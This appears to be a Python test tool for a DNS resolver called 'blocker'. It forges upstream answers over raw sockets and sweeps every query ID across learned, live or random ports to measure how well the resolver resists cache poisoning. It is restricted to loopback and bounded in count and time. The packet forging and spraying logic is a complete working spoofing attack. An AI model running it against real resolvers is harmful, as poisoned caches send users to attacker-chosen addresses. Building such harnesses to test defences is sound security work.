"""An off-path spoofer for measuring cache poisoning: sprays forged answers, apparently from the
upstream, at the ports blocker asks the upstream from. Loopback only, bounded in count and time.

Needs a raw socket (root or CAP_NET_RAW): the forged datagrams carry the upstream's address and
port as their source, as a real off-path attacker's would.

Port strategies (`--ports`):
  learned  the ports connected to the upstream when the spray starts (an attacker who learned the
           source port from an earlier query); random ephemeral ports when there are none
  live     re-read those ports every 256 packets (an on-host attacker who sees every port)
  random   a random ephemeral port per packet (a blind off-path attacker)
IDs sweep 0..65535 from a random start, so 65,536 packets on one port cover every ID.
"""

from __future__ import annotations

import argparse
import contextlib
import random
import socket
import struct
import sys
import time

_EPHEMERAL = (32768, 60999)


def connected_ports(upstream: tuple[str, int]) -> list[int]:
    """Local ports of the UDP sockets on this host connected to `upstream` (from /proc/net/udp)."""
    host, port = upstream
    wanted = f"{socket.inet_aton(host)[::-1].hex().upper()}:{port:04X}"
    ports = []
    with open("/proc/net/udp") as table:
        next(table)
        for line in table:
            fields = line.split()
            if fields[2] == wanted:
                ports.append(int(fields[1].split(":")[1], 16))
    return ports


def forged_answer(query_id: int, name: str, address: str, ttl: int) -> bytes:
    question = b"".join(bytes((len(label),)) + label.encode() for label in name.rstrip(".").split(".")) + b"\x00"
    header = struct.pack("!HHHHHH", query_id, 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, ttl, 4) + socket.inet_aton(address)
    return header + question + b"\x00\x01\x00\x01" + record


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _ip_udp(source: tuple[str, int], target: tuple[str, int], payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0)  # checksum 0: none (IPv4)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0x4000, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(source[0]), socket.inet_aton(target[0]))
    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
    return header + udp + payload


def spray(upstream: tuple[str, int], target_host: str, name: str, address: str, count: int, seconds: float,
          ports: str = "learned", ttl: int = 86_400) -> dict[str, float]:
    """Send up to `count` forged answers within `seconds`; returns what was sent, and how fast."""
    for host in (upstream[0], target_host):
        if not host.startswith("127."):
            raise ValueError("loopback only")
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random()
    learned = connected_ports(upstream) if ports in ("learned", "live") else []
    first_id = rng.randrange(65536)
    template = forged_answer(0, name, address, ttl)
    started = time.monotonic()
    deadline = started + seconds
    sent = 0
    seen = len(learned)
    try:
        while sent < count:
            if sent % 256 == 0:
                if time.monotonic() > deadline:
                    break
                if ports == "live":
                    learned = connected_ports(upstream)
                    seen = max(seen, len(learned))
            query_id = (first_id + sent) & 0xFFFF
            if learned:
                port = learned[sent % len(learned)] if ports == "live" else learned[(sent >> 16) % len(learned)]
            else:
                port = rng.randint(*_EPHEMERAL)
            payload = struct.pack("!H", query_id) + template[2:]
            with contextlib.suppress(OSError):
                sock.sendto(_ip_udp(upstream, (target_host, port), payload), (target_host, 0))
            sent += 1
    finally:
        sock.close()
    elapsed = time.monotonic() - started
    return {"sent": sent, "seconds": elapsed, "ports_known": seen}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--upstream", required=True, help="HOST:PORT the forged answers claim to come from")
    parser.add_argument("--target", default="127.0.0.1", help="the host blocker asks upstreams from")
    parser.add_argument("--name", required=True)
    parser.add_argument("--address", default="203.0.113.66", help="the forged A record")
    parser.add_argument("--count", type=int, default=65536)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--ports", choices=("learned", "live", "random"), default="learned")
    args = parser.parse_args(argv)
    host, _, port = args.upstream.rpartition(":")
    result = spray((host, int(port)), args.target, args.name, args.address, args.count, args.seconds, args.ports)
    print(" ".join(f"{k}={v:.3f}" if isinstance(v, float) else f"{k}={v}" for k, v in result.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
